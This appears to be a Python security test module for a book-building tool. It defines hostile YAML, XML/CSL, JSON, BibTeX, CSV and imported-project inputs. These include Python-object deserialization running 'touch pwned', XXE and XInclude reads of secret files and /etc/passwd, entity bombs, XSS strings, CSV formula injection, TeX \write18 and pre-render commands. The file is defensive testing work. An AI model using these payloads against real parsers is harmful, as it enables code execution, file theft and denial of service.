"""YAML, JSON, XML and BibTeX that do more than hold data, and projects of other tools to be imported."""

from collections.abc import Iterator

from attacks.attack import OUTSIDE, Attack, Content, Fifo, Link, one

_HEAD = "title: A\nlanguage: en\nidentifier: urn:uuid:5d0c5a44-2b3e-4f0e-9a57-5f5c86a1f0d1\nbody: [chapters/one.md]\n"
_YAML = {
    "object": "subtitle: !!python/object/apply:os.system ['touch pwned']\n",
    "object-new": "subtitle: !!python/object/new:subprocess.Popen [[touch, pwned]]\n",
    "module": "subtitle: !!python/module:os\n",
    "name": "subtitle: !!python/name:os.system\n",
    "tag-local": "subtitle: !include ../outside/secret.yaml\n",
    "tag-env": "subtitle: !ENV ${HOME}\n",
    "tag-java": "subtitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['@SERVER@']]]]\n",
    "tag-handle": "%TAG ! tag:yaml.org,2002:python/\n---\n" + _HEAD + "subtitle: !object/apply:os.getcwd []\n",
    "binary": "subtitle: !!binary SGVsbG8=\n",
    "timestamp": "subtitle: !!timestamp 99999-99-99\n",
    "anchors": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)),
    "merge": "<<: &x {subtitle: a}\n<<: *x\n",
    "recursive": "subjects: &a [*a]\n",
    "deep": "subjects: " + "[" * 5000 + "]" * 5000 + "\n",
    "deep-map": "".join("  " * i + "a:\n" for i in range(3000)),
    "number-huge": "subtitle: " + "9" * 100_000 + "\n",
    "number-base": "edition: 0x" + "f" * 10_000 + "\ndate: 1e999999999\n",
    "sexagesimal": "edition: " + ":".join(["59"] * 2000) + "\n",
    "float-odd": "subtitle: .inf\nedition: .nan\n",
    "surrogate": 'subtitle: "a\\uD800b"\n',
    "surrogate-pair": 'subtitle: "\\uD83D\\uDE00"\n',
    "control": 'subtitle: "a\\0b\\x1b[2J\\x9d"\n',
    "key-complex": "? [a, b]\n: c\n? {x: y}\n: d\n",
    "key-null": "~: a\n? \n: b\n",
    "two-documents": "---\ntitle: B\n...\n---\nx: y\n",
    "directive": "%YAML 9.9\n---\n" + _HEAD,
    "tabs": "\tsubtitle: a\n",
    "long-line": "subtitle: " + "x" * 2_000_000 + "\n",
    "many-keys": "".join(f"k{i}: v\n" for i in range(50_000)),
    "folded": "subtitle: >" + "9" * 400 + "\n  a\n",
    "bool-title": "title: yes\nbody: no\nlanguage: off\n",
}  # fmt: skip
_STYLE = '<style xmlns="http://purl.org/net/xbiblio/csl" version="1.0" class="in-text"><info><title>x</title><id>x</id></info>{}<citation><layout><text variable="title"/></layout></citation><bibliography><layout><text variable="title"/></layout></bibliography></style>'
_BOMB = (
    '<!DOCTYPE style [<!ENTITY a0 "xxxxxxxxxx">'
    + "".join(f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 12))
    + "]>"
)
_CSL = {
    "entity": '<!DOCTYPE style [<!ENTITY x SYSTEM "file://@OUTSIDE@/secret.txt">]>' + _STYLE.format('<macro name="a"><text value="&x;"/></macro>'),
    "entity-remote": '<!DOCTYPE style SYSTEM "@SERVER@/x.dtd">' + _STYLE.format(""),
    "bomb": _BOMB + _STYLE.format('<macro name="a"><text value="&a11;"/></macro>'),
    "macro-loop": _STYLE.format('<macro name="a"><text macro="a"/></macro>').replace('<text variable="title"/>', '<text macro="a"/>'),
    "macro-bomb": _STYLE.format("".join(f'<macro name="m{i}"><text macro="m{i + 1}"/><text macro="m{i + 1}"/></macro>' for i in range(60)) + '<macro name="m60"><text value="x"/></macro>').replace('<text variable="title"/>', '<text macro="m0"/>'),
    "parent": _STYLE.format("").replace("</info>", '<link href="@SERVER@/p.csl" rel="independent-parent"/></info>'),
    "text-markup": _STYLE.format("").replace('<text variable="title"/>', '<text value="&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "prefix-markup": _STYLE.format("").replace('variable="title"', 'variable="title" prefix="&lt;img src=x onerror=alert(1)&gt;"'),
    "include": _STYLE.format('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@OUTSIDE@/secret.txt"/>'),
    "deep": _STYLE.format('<macro name="a">' + "<group>" * 5000 + "</group>" * 5000 + "</macro>"),
    "locale-up": _STYLE.format("").replace('version="1.0"', 'version="1.0" default-locale="../../../etc/passwd"'),
}  # fmt: skip
_STRINGS = "".join(
    "@string{a" + str(i) + "=" + "#".join([f"a{i - 1}" if i > 1 else "a"] * 10) + "}\n" for i in range(1, 12)
)
_WORKS = {
    "json-number": ("w.json", '[{"id": "ko", "type": "book", "title": 5, "issued": {"date-parts": [[' + "9" * 5000 + "]]}}]"),
    "json-types": ("w.json", '[{"id": ["ko"], "type": {}, "title": null, "author": "x", "issued": [[]]}, 7, null]'),
    "json-deep": ("w.json", "[" * 100_000),
    "json-constants": ("w.json", '[{"id": "ko", "type": "book", "title": "T", "volume": NaN, "page": Infinity}]'),
    "json-surrogate": ("w.json", '[{"id": "ko", "type": "book", "title": "a\\ud800b"}]'),
    "json-twice": ("w.json", '[{"id": "ko", "id": "kp", "type": "book", "title": "T", "__proto__": {}, "__class__": "x"}]'),
    "bib-strings": ("w.bib", '@string{a="xxxxxxxxxx"}' + _STRINGS + "@book{ko, title=a11, author={K}, date={1990}}"),
    "bib-crossref": ("w.bib", "@book{ko, crossref={kp}, title={T}}\n@book{kp, crossref={ko}, title={T}}\n"),
    "bib-braces": ("w.bib", "@book{ko, title={" + "{" * 50_000 + "}" * 50_000 + "}}"),
    "bib-tex": ("w.bib", "@book{ko, title={\\input{/etc/passwd}\\write18{id}\\csname x\\endcsname}, author={K}, date={1990}, file={/etc/passwd}}"),
    "bib-unclosed": ("w.bib", "@book{ko, title={T" * 2000),
    "yaml-object": ("w.yaml", "- !!python/object/apply:os.system ['touch pwned']\n"),
}  # fmt: skip
_TABLES = {
    "formula": 'a,b\n"=cmd|\'/c calc\'!A0","@SUM(1)"\n',
    "quotes": 'a,b\n"' + "x" * 1_000_000 + "\n",
    "columns": ",".join(f"c{i}" for i in range(20_000)) + "\n",
    "ragged": "a,b\n" + ",".join("x" * 500) + "\n",
    "nul": "a,b\n\0,\x1b[2J\n",
    "field-huge": "a,b\n" + "x" * 200_000 + ",1\n",
}


def _data() -> Iterator[Attack]:
    for name, text in _YAML.items():
        whole = text if text.startswith("%") else _HEAD + text
        yield Attack(
            f"yaml-{name}", {"book.yaml": whole}, absent=("pwned", "Hello"), options=("--epub", "--no-check")
        )
    for name in (
        "object",
        "tag-local",
        "anchors",
        "deep",
        "surrogate",
        "control",
        "recursive",
        "key-complex",
        "number-huge",
    ):
        text = _YAML[name].replace("subtitle", "title")
        files: dict[str | bytes, Content] = {
            "chapters/one.md": f"---\n{text}---\n\n# One\n\nA [word]{{.index}} and @tbl-one.\n",
            "tables/one.yaml": text.replace("title", "caption"),
            "glossary.yaml": text,
            "index.yaml": text,
            "_variables.yml": text,
            "templates/terms/en.yaml": text,
        }
        yield Attack(
            f"yaml-everywhere-{name}",
            files,
            "back: [index]\n",
            absent=("pwned",),
            options=("--epub", "--no-check"),
            seconds=90,
        )
    for name, text in _CSL.items():
        files = {
            **one("A work [@ko]."),
            "house.csl": text,
            "w.yaml": "- {id: ko, type: book, title: T, author: [{family: K}], issued: {date-parts: [[1990]]}}\n",
        }
        yield Attack(
            f"csl-{name}",
            files,
            "bibliography: w.yaml\ncitations: {style: house.csl}\nback: [bibliography]\n",
            options=("--epub", "--no-check"),
            seconds=60,
        )
    for name, (file, text) in _WORKS.items():
        yield Attack(
            f"works-{name}",
            {**one("A work [@ko]."), file: text},
            f"bibliography: {file}\nback: [bibliography]\n",
            absent=("pwned",),
            options=("--epub", "--no-check"),
            seconds=60,
        )
    for name, text in _TABLES.items():
        files = {
            **one("See @tbl-one."),
            "tables/one.yaml": "caption: A\ndata: one.csv\ncolumns:\n  - {id: a, head: A}\n  - {id: b, head: B}\n",
            "tables/one.csv": text,
        }
        yield Attack(f"csv-{name}", files, options=("--epub", "--no-check"), seconds=60)


_OUT = "../outside/secret.md"
_IMPORTED: dict[str, dict[str | bytes, Content]] = {
    "mdbook-up": {"book.toml": '[book]\ntitle = "A"\nsrc = "src"\n', "src/SUMMARY.md": f"- [A](../{_OUT})\n- [B](/etc/passwd)\n- [C]({OUTSIDE}/secret.md)\n"},
    "mdbook-src": {"book.toml": '[book]\ntitle = "A"\nsrc = "../outside"\n', "src/SUMMARY.md": "- [A](a.md)\n"},
    "mdbook-link": {"book.toml": '[book]\ntitle = "A"\n', "src/SUMMARY.md": "- [A](a.md)\n", "src/a.md": Link(f"{OUTSIDE}/secret.md")},
    "mdbook-folder-link": {"book.toml": '[book]\ntitle = "A"\n', "src": Link(OUTSIDE)},
    "mdbook-picture": {"book.toml": '[book]\ntitle = "A"\n', "src/SUMMARY.md": "- [A](a.md)\n", "src/a.md": f"# A\n\n![x](../{_OUT}) ![y]({OUTSIDE}/secret.svg) {{{{#include ../{_OUT}}}}}\n"},
    "mdbook-preprocessor": {"book.toml": '[book]\ntitle = "A"\n[preprocessor.x]\ncommand = "touch pwned"\n[output.html]\nadditional-js = ["../../outside/secret.txt"]\n', "src/SUMMARY.md": "- [A](a.md)\n", "src/a.md": "# A\n\nB.\n"},
    "quarto-up": {"_quarto.yml": f"project: {{type: book, output-dir: ../home, pre-render: touch pwned}}\nbook:\n  title: A\n  cover-image: {_OUT}\n  chapters: [index.qmd, '{_OUT}', '/etc/passwd']\nbibliography: ['../outside/secret.bib']\ncsl: '../outside/secret.csl'\nfilters: [x.lua]\nmetadata-files: ['../outside/secret.yaml']\n", "index.qmd": "# A\n\nB.\n", "x.lua": "os.execute('touch pwned')"},
    "quarto-object": {"_quarto.yml": "project: {type: book}\nbook: !!python/object/apply:os.system ['touch pwned']\n"},
    "quarto-include": {"_quarto.yml": "project: {type: book}\nbook: {title: A, chapters: [index.qmd]}\n", "index.qmd": f"# A\n\n{{{{< include {_OUT} >}}}}\n\n![x]({_OUT})\n"},
    "bookdown": {"_bookdown.yml": f"rmd_files: ['index.Rmd', '{_OUT}']\nbefore_chapter_script: x.R\noutput_dir: ../home\n", "index.Rmd": "---\ntitle: A\nbibliography: ../outside/secret.bib\ncover-image: ../outside/secret.svg\n---\n\n# A\n\n```{r, child='../outside/secret.md'}\n```\n"},
    "gitbook": {"SUMMARY.md": f"- [A]({_OUT})\n- [B](file:///etc/passwd)\n", "book.json": '{"root": "../outside", "plugins": ["x"]}', ".gitbook.yaml": "root: ../outside\n", "README.md": "# A\n"},
    "myst": {"myst.yml": f"version: 1\nproject:\n  title: A\n  toc:\n    - file: {_OUT}\n    - pattern: ../outside/*.md\n  bibliography: [../outside/secret.bib]\n", "a.md": "# A\n"},
    "jupyter": {"_toc.yml": f"format: jb-book\nroot: {_OUT}\nchapters:\n  - file: ../outside/secret\n  - glob: ../outside/*\n", "_config.yml": "title: A\nlogo: ../outside/secret.svg\nsphinx: {extra_extensions: [x], local_extensions: {x: ../outside}}\n"},
    "jupyter-notebook": {"_toc.yml": "format: jb-book\nroot: a\n", "_config.yml": "title: A\n", "a.ipynb": '{"cells": [{"cell_type": "code", "source": "open(1)", "outputs": [{"data": {"text/html": "<script>alert(1)</script>", "image/svg+xml": "<svg onload=\'alert(1)\'/>"}}]}], "metadata": {}}'},
    "pandoc": {"defaults.yaml": f"input-files: ['a.md', '{_OUT}', '/etc/passwd', '@SERVER@/x.md']\nfilters: [x.py]\nresource-path: ['../outside']\noutput-file: ../home/x.md\ninclude-before-body: ../outside/secret.md\n", "a.md": "# A\n\nB.\n", "metadata.yaml": "title: A\n"},
    "plain-link": {"a.md": "# A\n\nB.\n", "b.md": Link(f"{OUTSIDE}/secret.md"), "c": Link(OUTSIDE)},
    "plain-fifo": {"a.md": "# A\n\nB.\n", "b.md": Fifo()},
    "plain-names": {"a\nbody: [x].md": "# A\n", "'b\": !!x.md": "# B\n", b"c\xff.md": "# C\n", "\x1b[2J.md": "# D\n", "# e.md": "# E\n", "{f}.md": "# F\n"},
    "plain-title": {"a.md": "---\ntitle: \"a\\nbody: [/etc/passwd]\\n# x: 'y\"\nauthor: \"b\\ntemplates: c\"\ncover-image: ../outside/secret.svg\n---\n\n# A\n\nB.\n"},
    "plain-deep": {"/".join(["d"] * 200) + "/x.md": "# X\n"},
    "summary-loop": {"book.toml": '[book]\ntitle = "A"\n', "src/SUMMARY.md": "".join("  " * i + "- [A](a.md)\n" for i in range(500)), "src/a.md": "# A\n\nB.\n"},
    "existing-link": {"book.toml": '[book]\ntitle = "A"\n', "book.yaml": Link("@HOME@/photos/new-year.txt"), "src/SUMMARY.md": "- [A](a.md)\n", "src/a.md": "# A\n\nB.\n"},
    "dangling-link": {"book.toml": '[book]\ntitle = "A"\n', "book.yaml": Link("@HOME@/made.yaml"), "src/SUMMARY.md": "- [A](a.md)\n", "src/a.md": "# A\n\nB.\n"},
}  # fmt: skip


def _projects() -> Iterator[Attack]:
    for name, files in _IMPORTED.items():
        taken = {"book.yaml": "", "chapters/one.md": "", **files}
        command = ("--import", "@ROOT@/book", "--to", "@ROOT@/output")
        yield Attack(
            f"import-{name}",
            {**taken},
            command=command,
            prepare=_without_book,
            statuses=(0, 1, 2, 3),
            paths=False,
        )
    # A project that is imported where it lies may get a book.yaml, and nothing else.
    for name in ("existing-link", "dangling-link"):
        taken = {"book.yaml": "", "chapters/one.md": "", **_IMPORTED[name]}
        yield Attack(f"import-here-{name}", taken, command=("--import", "@ROOT@/book"), statuses=(0, 1, 2, 3))


def _without_book(world: "object") -> None:
    from attacks.world import World

    assert isinstance(world, World)
    for name in ("book.yaml", "chapters/one.md"):
        path = world.book / name
        if path.is_file() and not path.is_symlink() and not path.read_bytes():
            path.unlink()


DATA = tuple(_data())
PROJECTS = tuple(_projects())
